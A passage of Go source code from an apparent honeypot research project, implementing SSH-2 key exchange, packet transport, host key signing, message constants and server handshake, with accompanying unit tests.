	if _, err := negotiate([]string{"a"}, []string{"b"}, "test"); err == nil {
		t.Error("disjoint lists should fail")
	}
}

func TestCheckNegotiationFailure(t *testing.T) {
	a := localKexInit(nil, nil)
	b := localKexInit(nil, nil)
	b.ciphersC2S = []string{"chacha20-poly1305@openssh.com"}
	if err := checkNegotiation(a, b); err == nil {
		t.Error("mismatched ciphers should fail negotiation")
	}
}

func TestHostKeyBlobRoundTrip(t *testing.T) {
	pub, _, err := ed25519.GenerateKey(rand.Reader)
	if err != nil {
		t.Fatal(err)
	}
	blob := hostKeyBlob(pub)
	got, err := parseHostKeyBlob(blob)
	if err != nil {
		t.Fatal(err)
	}
	if !got.Equal(pub) {
		t.Error("host key round trip failed")
	}
}

func TestParseHostKeyBlobErrors(t *testing.T) {
	if _, err := parseHostKeyBlob(nil); err == nil {
		t.Error("empty blob should fail")
	}
	// Wrong algorithm name.
	bad := append([]byte{0, 0, 0, 7}, []byte("ssh-rsa")...)
	if _, err := parseHostKeyBlob(bad); err == nil {
		t.Error("wrong algorithm should fail")
	}
	// Right algorithm, wrong key length.
	blob := append([]byte{0, 0, 0, 11}, []byte("ssh-ed25519")...)
	blob = append(blob, 0, 0, 0, 2, 'x', 'y')
	if _, err := parseHostKeyBlob(blob); err == nil {
		t.Error("short key should fail")
	}
}

func TestSignatureBlobRoundTrip(t *testing.T) {
	sig := make([]byte, ed25519.SignatureSize)
	for i := range sig {
		sig[i] = byte(i)
	}
	got, err := parseSignatureBlob(signatureBlob(sig))
	if err != nil || !bytes.Equal(got, sig) {
		t.Errorf("signature round trip: %v", err)
	}
	if _, err := parseSignatureBlob([]byte{0, 0, 0, 1, 'x'}); err == nil {
		t.Error("bad signature blob should parse-fail")
	}
}

func TestDeriveKeyProperties(t *testing.T) {
	secret := []byte{1, 2, 3, 4}
	h := bytes.Repeat([]byte{0xaa}, 32)
	sid := bytes.Repeat([]byte{0xbb}, 32)
	// Requested lengths are honored, including ones beyond one hash block.
	for _, n := range []int{1, 16, 32, 48, 64, 100} {
		k := deriveKey(secret, h, sid, 'A', n)
		if len(k) != n {
			t.Errorf("deriveKey length = %d, want %d", len(k), n)
		}
	}
	// Different letters produce different keys.
	if bytes.Equal(deriveKey(secret, h, sid, 'A', 32), deriveKey(secret, h, sid, 'B', 32)) {
		t.Error("letters A and B should derive different keys")
	}
	// Longer outputs extend shorter ones (prefix property of RFC 4253 §7.2).
	short := deriveKey(secret, h, sid, 'C', 16)
	long := deriveKey(secret, h, sid, 'C', 48)
	if !bytes.Equal(short, long[:16]) {
		t.Error("key extension must preserve the prefix")
	}
}

func TestQuickDeriveKeyDeterministic(t *testing.T) {
	f := func(secret, h, sid []byte, letter byte) bool {
		if len(h) == 0 || len(sid) == 0 {
			return true
		}
		a := deriveKey(secret, h, sid, letter, 32)
		b := deriveKey(secret, h, sid, letter, 32)
		return bytes.Equal(a, b)
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 100}); err != nil {
		t.Fatal(err)
	}
}

func TestECDHSharedAgreement(t *testing.T) {
	a, err := generateECDH()
	if err != nil {
		t.Fatal(err)
	}
	b, err := generateECDH()
	if err != nil {
		t.Fatal(err)
	}
	s1, err := ecdhShared(a, b.PublicKey().Bytes())
	if err != nil {
		t.Fatal(err)
	}
	s2, err := ecdhShared(b, a.PublicKey().Bytes())
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(s1, s2) {
		t.Error("X25519 shared secrets disagree")
	}
	if _, err := ecdhShared(a, []byte{1, 2, 3}); err == nil {
		t.Error("short peer point should fail")
	}
}

func TestExchangeHashSensitivity(t *testing.T) {
	base := exchangeHash("SSH-2.0-c", "SSH-2.0-s", []byte("ic"), []byte("is"), []byte("hk"), []byte("qc"), []byte("qs"), []byte("k"))
	if len(base) != 32 {
		t.Fatalf("hash length = %d", len(base))
	}
	variants := [][]byte{
		exchangeHash("SSH-2.0-X", "SSH-2.0-s", []byte("ic"), []byte("is"), []byte("hk"), []byte("qc"), []byte("qs"), []byte("k")),
		exchangeHash("SSH-2.0-c", "SSH-2.0-s", []byte("IC"), []byte("is"), []byte("hk"), []byte("qc"), []byte("qs"), []byte("k")),
		exchangeHash("SSH-2.0-c", "SSH-2.0-s", []byte("ic"), []byte("is"), []byte("hk"), []byte("qc"), []byte("qs"), []byte("K")),
	}
	for i, v := range variants {
		if bytes.Equal(base, v) {
			t.Errorf("variant %d did not change the exchange hash", i)
		}
	}
}

func TestDHKeyAgreement(t *testing.T) {
	xa, ea, err := dhKeyPair()
	if err != nil {
		t.Fatal(err)
	}
	xb, eb, err := dhKeyPair()
	if err != nil {
		t.Fatal(err)
	}
	ka, err := dhShared(xa, eb)
	if err != nil {
		t.Fatal(err)
	}
	kb, err := dhShared(xb, ea)
	if err != nil {
		t.Fatal(err)
	}
	if ka.Cmp(kb) != 0 {
		t.Error("DH shared secrets disagree")
	}
	// Degenerate peer values are rejected.
	for _, bad := range []int64{0, 1} {
		if _, err := dhShared(xa, bigInt(bad)); err == nil {
			t.Errorf("peer value %d should be rejected", bad)
		}
	}
	if _, err := dhShared(xa, group14P); err == nil {
		t.Error("peer value p should be rejected")
	}
}

func bigInt(v int64) *big.Int { return big.NewInt(v) }

func TestRSAKeyBlobRoundTrip(t *testing.T) {
	key, err := rsa.GenerateKey(rand.Reader, 2048)
	if err != nil {
		t.Fatal(err)
	}
	signer := NewRSASigner(key)
	if signer.Algo() != "rsa-sha2-256" {
		t.Errorf("algo = %s", signer.Algo())
	}
	pub, err := parseRSAKeyBlob(signer.PublicBlob())
	if err != nil {
		t.Fatal(err)
	}
	if pub.N.Cmp(key.N) != 0 || pub.E != key.E {
		t.Error("rsa key round trip failed")
	}
	// Sign/verify through the generic path.
	data := []byte("exchange hash bytes")
	sig, err := signer.Sign(data)
	if err != nil {
		t.Fatal(err)
	}
	if err := verifyHostSignature("rsa-sha2-256", signer.PublicBlob(), sig, data); err != nil {
		t.Fatal(err)
	}
	if err := verifyHostSignature("rsa-sha2-256", signer.PublicBlob(), sig, []byte("other")); err == nil {
		t.Error("tampered data should fail verification")
	}
}

func TestParseRSAKeyBlobErrors(t *testing.T) {
	if _, err := parseRSAKeyBlob(nil); err == nil {
		t.Error("empty blob should fail")
	}
	// Tiny modulus rejected.
	small, err := rsa.GenerateKey(rand.Reader, 512)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := parseRSAKeyBlob(NewRSASigner(small).PublicBlob()); err == nil {
		t.Error("512-bit modulus should be rejected")
	}
}
