package sshwire

import (
	"crypto/rand"
	"crypto/sha256"
	"errors"
	"fmt"
	"math/big"

	"honeyfarm/internal/wire"
)

// algoKexDH14 is diffie-hellman-group14-sha256 (RFC 8268): the 2048-bit
// MODP group 14 of RFC 3526 with SHA-256, widely offered by the older
// bot toolchains the paper's honeypots face.
const algoKexDH14 = "diffie-hellman-group14-sha256"

// group14P is the RFC 3526 group 14 prime (2048 bits); the generator is 2.
var group14P, _ = new(big.Int).SetString(
	"FFFFFFFFFFFFFFFFC90FDAA22168C234C4C6628B80DC1CD1"+
		"29024E088A67CC74020BBEA63B139B22514A08798E3404DD"+
		"EF9519B3CD3A431B302B0A6DF25F14374FE1356D6D51C245"+
		"E485B576625E7EC6F44C42E9A637ED6B0BFF5CB6F406B7ED"+
		"EE386BFB5A899FA5AE9F24117C4B1FE649286651ECE45B3D"+
		"C2007CB8A163BF0598DA48361C55D39A69163FA8FD24CF5F"+
		"83655D23DCA3AD961C62F356208552BB9ED529077096966D"+
		"670C354E4ABC9804F1746C08CA18217C32905E462E36CE3B"+
		"E39E772C180E86039B2783A2EC07A28FB5C55DF06F4C52C9"+
		"DE2BCBF6955817183995497CEA956AE515D2261898FA0510"+
		"15728E5A8AACAA68FFFFFFFFFFFFFFFF", 16)

var group14G = big.NewInt(2)

// dhKeyPair generates a private exponent and the corresponding public
// value g^x mod p.
func dhKeyPair() (x, e *big.Int, err error) {
	// 256-bit exponent: ample for a 2048-bit group at a 128-bit level.
	limit := new(big.Int).Lsh(big.NewInt(1), 256)
	x, err = rand.Int(rand.Reader, limit)
	if err != nil {
		return nil, nil, fmt.Errorf("sshwire: dh exponent: %w", err)
	}
	if x.Sign() == 0 {
		x = big.NewInt(1)
	}
	return x, new(big.Int).Exp(group14G, x, group14P), nil
}

// dhShared validates the peer value and computes the shared secret.
func dhShared(x, peer *big.Int) (*big.Int, error) {
	if peer.Cmp(big.NewInt(1)) <= 0 || peer.Cmp(new(big.Int).Sub(group14P, big.NewInt(1))) >= 0 {
		return nil, errors.New("sshwire: dh peer value out of range")
	}
	return new(big.Int).Exp(peer, x, group14P), nil
}

// exchangeHashDH computes H for DH kex methods: e, f, K are mpints
// (RFC 4253 §8), unlike the string-encoded points of ECDH.
func exchangeHashDH(clientVersion, serverVersion string, clientKexInit, serverKexInit, hostKey []byte, e, f, k *big.Int) []byte {
	b := wire.NewBuilder(2048)
	b.Text(clientVersion)
	b.Text(serverVersion)
	b.String(clientKexInit)
	b.String(serverKexInit)
	b.String(hostKey)
	b.MPInt(e)
	b.MPInt(f)
	b.MPInt(k)
	sum := sha256.Sum256(b.Bytes())
	return sum[:]
}

// serverKexDH runs the server side of group14 kex after KEXINIT
// exchange: read KEXDH_INIT (e), reply with K_S, f, signature.
func serverKexDH(t *transport, signer HostSigner, clientInit, serverInit *kexInit) (secret, h []byte, err error) {
	payload, err := t.readPacket()
	if err != nil {
		return nil, nil, err
	}
	if payload[0] != msgKexECDHInit { // SSH_MSG_KEXDH_INIT shares number 30
		return nil, nil, fmt.Errorf("sshwire: expected KEXDH_INIT, got %d", payload[0])
	}
	r := wire.NewReader(payload[1:])
	e := r.MPInt()
	if err := r.Err(); err != nil {
		return nil, nil, err
	}
	x, f, err := dhKeyPair()
	if err != nil {
		return nil, nil, err
	}
	k, err := dhShared(x, e)
	if err != nil {
		t.sendDisconnect(disconnectKexFailed, err.Error())
		return nil, nil, err
	}
	pubBlob := signer.PublicBlob()
	h = exchangeHashDH(t.remoteVersion, t.localVersion, clientInit.raw, serverInit.raw, pubBlob, e, f, k)
	sig, err := signer.Sign(h)
	if err != nil {
		return nil, nil, err
	}
	b := wire.NewBuilder(1024)
	b.Byte(msgKexECDHReply).String(pubBlob).MPInt(f).String(sig)
	if err := t.writePacket(b.Bytes()); err != nil {
		return nil, nil, err
	}
	return k.Bytes(), h, nil
}

// clientKexDH runs the client side of group14 kex.
func clientKexDH(t *transport, cfg *ClientConfig, hostKeyAlgo string, clientInit, serverInit *kexInit) (secret, h []byte, err error) {
	x, e, err := dhKeyPair()
	if err != nil {
		return nil, nil, err
	}
	b := wire.NewBuilder(512)
	b.Byte(msgKexECDHInit).MPInt(e)
	if err := t.writePacket(b.Bytes()); err != nil {
		return nil, nil, err
	}
	payload, err := t.readPacket()
	if err != nil {
		return nil, nil, err
	}
	if payload[0] != msgKexECDHReply {
		return nil, nil, fmt.Errorf("sshwire: expected KEXDH_REPLY, got %d", payload[0])
	}
	r := wire.NewReader(payload[1:])
	hostKeyRaw := r.String()
	f := r.MPInt()
	sigRaw := r.String()
	if err := r.Err(); err != nil {
		return nil, nil, err
	}
	if err := checkHostKey(cfg, hostKeyAlgo, hostKeyRaw); err != nil {
		t.sendDisconnect(disconnectHostKeyNotVerifiable, "host key rejected")
		return nil, nil, err
	}
	k, err := dhShared(x, f)
	if err != nil {
		return nil, nil, err
	}
	h = exchangeHashDH(t.localVersion, t.remoteVersion, clientInit.raw, serverInit.raw, hostKeyRaw, e, f, k)
	if err := verifyHostSignature(hostKeyAlgo, hostKeyRaw, sigRaw, h); err != nil {
		t.sendDisconnect(disconnectHostKeyNotVerifiable, "signature verification failed")
		return nil, nil, err
	}
	return k.Bytes(), h, nil
}
