package sshwire

import (
	"bufio"
	"crypto/aes"
	"crypto/cipher"
	"crypto/hmac"
	"crypto/rand"
	"crypto/sha256"
	"crypto/subtle"
	"encoding/binary"
	"errors"
	"fmt"
	"hash"
	"io"
	"net"
	"strings"
	"sync"

	"honeyfarm/internal/wire"
)

// Transport-level limits (RFC 4253 §6.1).
const (
	maxPacketLen   = 35000
	minPaddingLen  = 4
	plainBlockSize = 8
	aesBlockSize   = 16
)

// ErrDisconnected is returned when the peer sent SSH_MSG_DISCONNECT.
var ErrDisconnected = errors.New("sshwire: peer disconnected")

// DisconnectError carries the peer's disconnect reason.
type DisconnectError struct {
	Reason  uint32
	Message string
}

func (e *DisconnectError) Error() string {
	return fmt.Sprintf("sshwire: disconnected by peer: %s (reason %d)", e.Message, e.Reason)
}

// Is reports that any DisconnectError matches ErrDisconnected.
func (e *DisconnectError) Is(target error) bool { return target == ErrDisconnected }

// IsGracefulDisconnect reports whether err is the peer's normal
// by-application disconnect (RFC 4253 reason 11). Whether a drain of the
// final channel output sees channel EOF or this transport-level notice
// is a teardown race; both are orderly closes, not failures.
func IsGracefulDisconnect(err error) bool {
	var de *DisconnectError
	return errors.As(err, &de) && de.Reason == disconnectByApplication
}

// direction holds one direction's active cryptographic state.
type direction struct {
	stream cipher.Stream
	mac    hash.Hash
	seq    uint32
}

// transport implements the SSH binary packet protocol over a net.Conn.
// Reads and writes may proceed concurrently (one reader, one writer).
type transport struct {
	conn net.Conn
	br   *bufio.Reader

	readMu  sync.Mutex
	writeMu sync.Mutex
	read    direction
	write   direction

	// pendingWrite/pendingRead hold keys negotiated during a key exchange,
	// activated when NEWKEYS is sent/received.
	pendingWrite *direction
	pendingRead  *direction

	localVersion  string
	remoteVersion string
}

func newTransport(conn net.Conn) *transport {
	return &transport{conn: conn, br: bufio.NewReaderSize(conn, 4096)}
}

// exchangeVersions sends our identification string and reads the peer's
// (RFC 4253 §4.2). Pre-version banner lines from the server are skipped
// on the client side.
func (t *transport) exchangeVersions(local string, client bool) error {
	t.localVersion = local
	if _, err := io.WriteString(t.conn, local+"\r\n"); err != nil {
		return fmt.Errorf("sshwire: writing version: %w", err)
	}
	for i := 0; i < 32; i++ { // bounded banner skip
		line, err := t.readLine()
		if err != nil {
			return fmt.Errorf("sshwire: reading version: %w", err)
		}
		if strings.HasPrefix(line, "SSH-") {
			if !strings.HasPrefix(line, "SSH-2.0-") && !strings.HasPrefix(line, "SSH-1.99-") {
				return fmt.Errorf("sshwire: unsupported protocol version %q", line)
			}
			t.remoteVersion = line
			return nil
		}
		if !client {
			return fmt.Errorf("sshwire: client sent non-version line %q", line)
		}
	}
	return errors.New("sshwire: no version line within banner limit")
}

func (t *transport) readLine() (string, error) {
	var b strings.Builder
	for b.Len() < 1024 {
		c, err := t.br.ReadByte()
		if err != nil {
			return "", err
		}
		if c == '\n' {
			return strings.TrimSuffix(b.String(), "\r"), nil
		}
		b.WriteByte(c)
	}
	return "", errors.New("sshwire: identification line too long")
}

// writePacket sends one SSH packet containing payload.
func (t *transport) writePacket(payload []byte) error {
	t.writeMu.Lock()
	defer t.writeMu.Unlock()

	block := plainBlockSize
	if t.write.stream != nil {
		block = aesBlockSize
	}
	// packet_length(4) + padding_length(1) + payload + padding ≡ 0 mod block
	padding := block - (5+len(payload))%block
	if padding < minPaddingLen {
		padding += block
	}
	length := 1 + len(payload) + padding

	packet := make([]byte, 4+1+len(payload)+padding)
	binary.BigEndian.PutUint32(packet, uint32(length))
	packet[4] = byte(padding)
	copy(packet[5:], payload)
	if _, err := rand.Read(packet[5+len(payload):]); err != nil {
		return fmt.Errorf("sshwire: random padding: %w", err)
	}

	var macSum []byte
	if t.write.mac != nil {
		t.write.mac.Reset()
		var seq [4]byte
		binary.BigEndian.PutUint32(seq[:], t.write.seq)
		t.write.mac.Write(seq[:])
		t.write.mac.Write(packet)
		macSum = t.write.mac.Sum(nil)
	}
	if t.write.stream != nil {
		t.write.stream.XORKeyStream(packet, packet)
	}
	t.write.seq++

	// writeMu exists to serialize whole frames onto the wire — packet and
	// MAC must hit the conn back-to-back with a consistent sequence
	// number, so holding it across these writes is the invariant, not a
	// hazard.
	//lint:ignore lock-across-blocking writeMu serializes frame writes; holding it across the conn write is its purpose
	if _, err := t.conn.Write(packet); err != nil {
		return fmt.Errorf("sshwire: writing packet: %w", err)
	}
	if macSum != nil {
		//lint:ignore lock-across-blocking writeMu serializes frame writes; holding it across the conn write is its purpose
		if _, err := t.conn.Write(macSum); err != nil {
			return fmt.Errorf("sshwire: writing MAC: %w", err)
		}
	}
	return nil
}

// readPacket reads one SSH packet and returns its payload. Transparent
// messages (IGNORE, DEBUG) are consumed internally; DISCONNECT returns a
// DisconnectError.
func (t *transport) readPacket() ([]byte, error) {
	for {
		payload, err := t.readPacketRaw()
		if err != nil {
			return nil, err
		}
		if len(payload) == 0 {
			return nil, errors.New("sshwire: empty packet payload")
		}
		switch payload[0] {
		case msgIgnore, msgDebug:
			continue
		case msgDisconnect:
			r := wire.NewReader(payload[1:])
			reason := r.Uint32()
			msg := r.Text()
			return nil, &DisconnectError{Reason: reason, Message: msg}
		case msgUnimplemented:
			continue
		}
		return payload, nil
	}
}

func (t *transport) readPacketRaw() ([]byte, error) {
	t.readMu.Lock()
	defer t.readMu.Unlock()

	block := plainBlockSize
	if t.read.stream != nil {
		block = aesBlockSize
	}
	first := make([]byte, block)
	if _, err := io.ReadFull(t.br, first); err != nil {
		return nil, err
	}
	if t.read.stream != nil {
		t.read.stream.XORKeyStream(first, first)
	}
	length := binary.BigEndian.Uint32(first)
	if length > maxPacketLen || length < 1 {
		return nil, fmt.Errorf("sshwire: invalid packet length %d", length)
	}
	total := 4 + int(length)
	if total%block != 0 {
		return nil, fmt.Errorf("sshwire: packet length %d not a multiple of block size", total)
	}
	rest := make([]byte, total-block)
	if _, err := io.ReadFull(t.br, rest); err != nil {
		return nil, err
	}
	if t.read.stream != nil {
		t.read.stream.XORKeyStream(rest, rest)
	}
	packet := append(first, rest...)

	if t.read.mac != nil {
		sum := make([]byte, t.read.mac.Size())
		if _, err := io.ReadFull(t.br, sum); err != nil {
			return nil, err
		}
		t.read.mac.Reset()
		var seq [4]byte
		binary.BigEndian.PutUint32(seq[:], t.read.seq)
		t.read.mac.Write(seq[:])
		t.read.mac.Write(packet)
		if subtle.ConstantTimeCompare(sum, t.read.mac.Sum(nil)) != 1 {
			return nil, errors.New("sshwire: MAC verification failed")
		}
	}
	t.read.seq++

	padding := int(packet[4])
	if padding < minPaddingLen || 5+padding > len(packet) {
		return nil, fmt.Errorf("sshwire: invalid padding length %d", padding)
	}
	return packet[5 : len(packet)-padding], nil
}

// keys holds one direction's derived key material.
type keys struct {
	iv, key, macKey []byte
}

// prepareKeys stages new cryptographic state; it becomes active on
// NEWKEYS via activateWrite/activateRead.
func (t *transport) prepareKeys(write, read keys) error {
	mkDir := func(k keys) (*direction, error) {
		blk, err := aes.NewCipher(k.key)
		if err != nil {
			return nil, err
		}
		return &direction{
			stream: cipher.NewCTR(blk, k.iv),
			mac:    hmac.New(sha256.New, k.macKey),
		}, nil
	}
	w, err := mkDir(write)
	if err != nil {
		return err
	}
	r, err := mkDir(read)
	if err != nil {
		return err
	}
	t.pendingWrite, t.pendingRead = w, r
	return nil
}

func (t *transport) activateWrite() {
	t.writeMu.Lock()
	defer t.writeMu.Unlock()
	t.pendingWrite.seq = t.write.seq
	t.write = *t.pendingWrite
	t.pendingWrite = nil
}

func (t *transport) activateRead() {
	t.readMu.Lock()
	defer t.readMu.Unlock()
	t.pendingRead.seq = t.read.seq
	t.read = *t.pendingRead
	t.pendingRead = nil
}

// sendDisconnect notifies the peer and is best-effort.
func (t *transport) sendDisconnect(reason uint32, message string) {
	b := wire.NewBuilder(64)
	b.Byte(msgDisconnect).Uint32(reason).Text(message).Text("")
	//lint:ignore error-discard disconnect notice is best-effort by definition
	_ = t.writePacket(b.Bytes())
}

func (t *transport) Close() error { return t.conn.Close() }
