package sshwire

import (
	"crypto"
	"crypto/ed25519"
	"crypto/rand"
	"crypto/rsa"
	"crypto/sha256"
	"errors"
	"fmt"
	"math/big"

	"honeyfarm/internal/wire"
)

// Host key algorithm names.
const (
	algoHostKeyRSA = "rsa-sha2-256"
	algoKeyFmtRSA  = "ssh-rsa" // key blob format name (RFC 4253 §6.6)
)

// HostSigner abstracts the server's host key: ed25519 (default) or RSA.
type HostSigner interface {
	// Algo is the signature algorithm name advertised in KEXINIT.
	Algo() string
	// PublicBlob is the wire-format public key (K_S).
	PublicBlob() []byte
	// Sign returns the wire-format signature blob over data.
	Sign(data []byte) ([]byte, error)
}

// ed25519Signer wraps an ed25519 private key.
type ed25519Signer struct{ key ed25519.PrivateKey }

// NewEd25519Signer wraps an ed25519 host key.
func NewEd25519Signer(key ed25519.PrivateKey) HostSigner { return ed25519Signer{key} }

func (s ed25519Signer) Algo() string { return algoHostKey }

func (s ed25519Signer) PublicBlob() []byte {
	return hostKeyBlob(s.key.Public().(ed25519.PublicKey))
}

func (s ed25519Signer) Sign(data []byte) ([]byte, error) {
	return signatureBlob(ed25519.Sign(s.key, data)), nil
}

// rsaSigner wraps an RSA private key, signing with SHA-256 (RFC 8332).
type rsaSigner struct{ key *rsa.PrivateKey }

// NewRSASigner wraps an RSA host key.
func NewRSASigner(key *rsa.PrivateKey) HostSigner { return rsaSigner{key} }

func (s rsaSigner) Algo() string { return algoHostKeyRSA }

func (s rsaSigner) PublicBlob() []byte {
	pub := &s.key.PublicKey
	b := wire.NewBuilder(512)
	b.Text(algoKeyFmtRSA)
	b.MPInt(big.NewInt(int64(pub.E)))
	b.MPInt(pub.N)
	return b.Bytes()
}

func (s rsaSigner) Sign(data []byte) ([]byte, error) {
	sum := sha256.Sum256(data)
	sig, err := rsa.SignPKCS1v15(rand.Reader, s.key, crypto.SHA256, sum[:])
	if err != nil {
		return nil, fmt.Errorf("sshwire: rsa signing: %w", err)
	}
	b := wire.NewBuilder(len(sig) + 32)
	b.Text(algoHostKeyRSA)
	b.String(sig)
	return b.Bytes(), nil
}

// verifyHostSignature checks a signature blob against a host key blob
// for the negotiated algorithm.
func verifyHostSignature(hostKeyAlgo string, keyBlob, sigBlob, data []byte) error {
	switch hostKeyAlgo {
	case algoHostKey: // ssh-ed25519
		pub, err := parseHostKeyBlob(keyBlob)
		if err != nil {
			return err
		}
		sig, err := parseSignatureBlob(sigBlob)
		if err != nil {
			return err
		}
		if !ed25519.Verify(pub, data, sig) {
			return errors.New("sshwire: ed25519 host signature verification failed")
		}
		return nil
	case algoHostKeyRSA:
		pub, err := parseRSAKeyBlob(keyBlob)
		if err != nil {
			return err
		}
		r := wire.NewReader(sigBlob)
		if algo := r.Text(); algo != algoHostKeyRSA {
			return fmt.Errorf("sshwire: unexpected signature algorithm %q", algo)
		}
		sig := r.String()
		if r.Err() != nil {
			return errors.New("sshwire: malformed rsa signature blob")
		}
		sum := sha256.Sum256(data)
		if err := rsa.VerifyPKCS1v15(pub, crypto.SHA256, sum[:], sig); err != nil {
			return fmt.Errorf("sshwire: rsa host signature verification failed: %w", err)
		}
		return nil
	}
	return fmt.Errorf("sshwire: unsupported host key algorithm %q", hostKeyAlgo)
}

// parseRSAKeyBlob extracts an RSA public key from an ssh-rsa blob.
func parseRSAKeyBlob(blob []byte) (*rsa.PublicKey, error) {
	r := wire.NewReader(blob)
	if fmtName := r.Text(); fmtName != algoKeyFmtRSA {
		return nil, fmt.Errorf("sshwire: unsupported key format %q", fmtName)
	}
	e := r.MPInt()
	n := r.MPInt()
	if r.Err() != nil {
		return nil, errors.New("sshwire: malformed ssh-rsa key blob")
	}
	if !e.IsInt64() || e.Int64() < 3 || e.Int64() > 1<<31 {
		return nil, errors.New("sshwire: rsa exponent out of range")
	}
	if n.BitLen() < 1024 || n.BitLen() > 16384 {
		return nil, fmt.Errorf("sshwire: rsa modulus %d bits out of range", n.BitLen())
	}
	return &rsa.PublicKey{N: n, E: int(e.Int64())}, nil
}
