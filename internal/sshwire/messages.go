// Package sshwire is a from-scratch implementation of the SSH-2 protocol
// subset a Cowrie-class honeypot needs, built only on the Go standard
// library: the binary packet protocol and algorithm negotiation of RFC
// 4253, curve25519-sha256 key exchange (RFC 8731), ssh-ed25519 host keys
// (RFC 8709), aes128-ctr encryption (RFC 4344) with hmac-sha2-256 (RFC
// 6668), password authentication (RFC 4252), and the connection protocol's
// session channels with pty-req/shell/exec requests (RFC 4254).
//
// Both roles are implemented: the honeypot runs the server, and the
// simulated attackers (and the cmd/attack tool) run the client. The same
// transport code drives both, so every integration test exercises the two
// sides against each other byte-for-byte.
package sshwire

// Message numbers (RFC 4253 §12, RFC 4252 §6, RFC 4254 §9).
const (
	msgDisconnect     = 1
	msgIgnore         = 2
	msgUnimplemented  = 3
	msgDebug          = 4
	msgServiceRequest = 5
	msgServiceAccept  = 6

	msgKexInit = 20
	msgNewKeys = 21

	msgKexECDHInit  = 30
	msgKexECDHReply = 31

	msgUserauthRequest = 50
	msgUserauthFailure = 51
	msgUserauthSuccess = 52
	msgUserauthBanner  = 53

	msgGlobalRequest  = 80
	msgRequestSuccess = 81
	msgRequestFailure = 82

	msgChannelOpen           = 90
	msgChannelOpenConfirm    = 91
	msgChannelOpenFailure    = 92
	msgChannelWindowAdjust   = 93
	msgChannelData           = 94
	msgChannelExtendedData   = 95
	msgChannelEOF            = 96
	msgChannelClose          = 97
	msgChannelRequest        = 98
	msgChannelRequestSuccess = 99
	msgChannelRequestFailure = 100
)

// Disconnect reason codes (RFC 4253 §11.1).
const (
	disconnectProtocolError        = 2
	disconnectServiceNotAvailable  = 7
	disconnectNoMoreAuthMethods    = 14
	disconnectByApplication        = 11
	disconnectKexFailed            = 3
	disconnectHostKeyNotVerifiable = 9
)

// Channel open failure reason codes (RFC 4254 §5.1).
const (
	openAdministrativelyProhibited = 1
	openUnknownChannelType         = 3
)

// Algorithm names: the single suite this implementation speaks.
const (
	algoKex     = "curve25519-sha256"
	algoKexLibC = "curve25519-sha256@libssh.org" // pre-RFC alias, same algorithm
	algoHostKey = "ssh-ed25519"
	algoCipher  = "aes128-ctr"
	algoMAC     = "hmac-sha2-256"
	algoNone    = "none"
)

// Service names.
const (
	serviceUserauth   = "ssh-userauth"
	serviceConnection = "ssh-connection"
)
