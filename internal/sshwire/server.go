package sshwire

import (
	"crypto/ed25519"
	"crypto/rsa"
	"errors"
	"fmt"
	"net"

	"honeyfarm/internal/wire"
)

// AuthAttempt records one password authentication attempt, successful or
// not. The honeypot logs every attempt (the paper's FAIL_LOG category is
// built from sessions whose attempts all fail).
type AuthAttempt struct {
	User     string
	Password string
	Method   string
	Accepted bool
}

// ServerConfig configures an SSH honeypot endpoint.
type ServerConfig struct {
	// HostKey signs the key exchange. Required.
	HostKey ed25519.PrivateKey
	// RSAHostKey optionally adds an rsa-sha2-256 host key for clients
	// that do not speak ssh-ed25519.
	RSAHostKey *rsa.PrivateKey
	// Version is the identification string, e.g. "SSH-2.0-OpenSSH_7.9p1".
	Version string
	// PasswordCallback decides whether a password is accepted. Required.
	PasswordCallback func(user, password string) bool
	// AuthLogCallback observes every authentication attempt.
	AuthLogCallback func(AuthAttempt)
	// MaxAuthTries disconnects the client after this many failed
	// attempts. Cowrie's default — and the behavior the paper observes
	// ("terminated after 3 unsuccessful tries") — is 3.
	MaxAuthTries int
	// Banner, when set, is sent as a pre-auth userauth banner.
	Banner string
}

// ServerConn is an accepted, authenticated SSH server connection.
type ServerConn struct {
	t   *transport
	mux *mux

	user          string
	clientVersion string
}

// User returns the authenticated username.
func (c *ServerConn) User() string { return c.user }

// ClientVersion returns the client's identification string.
func (c *ServerConn) ClientVersion() string { return c.clientVersion }

// NewServerConn runs the SSH server handshake (version exchange, key
// exchange, authentication) over nc. On success the returned ServerConn
// accepts session channels. On failure nc is closed.
func NewServerConn(nc net.Conn, cfg *ServerConfig) (*ServerConn, error) {
	if cfg.HostKey == nil || cfg.PasswordCallback == nil {
		nc.Close()
		return nil, errors.New("sshwire: ServerConfig requires HostKey and PasswordCallback")
	}
	version := cfg.Version
	if version == "" {
		version = "SSH-2.0-OpenSSH_7.9p1 Debian-10+deb10u2"
	}
	maxTries := cfg.MaxAuthTries
	if maxTries <= 0 {
		maxTries = 3
	}

	t := newTransport(nc)
	fail := func(err error) (*ServerConn, error) {
		t.Close()
		return nil, err
	}
	if err := t.exchangeVersions(version, false); err != nil {
		return fail(err)
	}
	if err := serverKex(t, cfg); err != nil {
		return fail(err)
	}
	user, err := serverAuth(t, cfg, maxTries)
	if err != nil {
		return fail(err)
	}
	return &ServerConn{
		t:             t,
		mux:           newMux(t),
		user:          user,
		clientVersion: t.remoteVersion,
	}, nil
}

// serverKex negotiates and runs the key exchange: curve25519-sha256 or
// diffie-hellman-group14-sha256, signed with the honeypot's ed25519 or
// RSA host key as negotiated.
func serverKex(t *transport, cfg *ServerConfig) error {
	hostKeyAlgos := []string{algoHostKey}
	if cfg.RSAHostKey != nil {
		hostKeyAlgos = append(hostKeyAlgos, algoHostKeyRSA)
	}
	serverInit := localKexInit(nil, hostKeyAlgos)
	if err := t.writePacket(serverInit.marshal()); err != nil {
		return err
	}
	payload, err := t.readPacket()
	if err != nil {
		return err
	}
	clientInit, err := parseKexInit(payload)
	if err != nil {
		return err
	}
	if err := checkNegotiation(clientInit, serverInit); err != nil {
		t.sendDisconnect(disconnectKexFailed, err.Error())
		return err
	}
	kexAlgo, err := negotiate(clientInit.kexAlgos, serverInit.kexAlgos, "kex")
	if err != nil {
		return err
	}
	hostAlgo, err := negotiate(clientInit.hostKeyAlgos, serverInit.hostKeyAlgos, "host key")
	if err != nil {
		return err
	}
	var signer HostSigner = NewEd25519Signer(cfg.HostKey)
	if hostAlgo == algoHostKeyRSA {
		signer = NewRSASigner(cfg.RSAHostKey)
	}

	var secret, h []byte
	switch kexAlgo {
	case algoKex, algoKexLibC:
		secret, h, err = serverKexECDH(t, signer, clientInit, serverInit)
	case algoKexDH14:
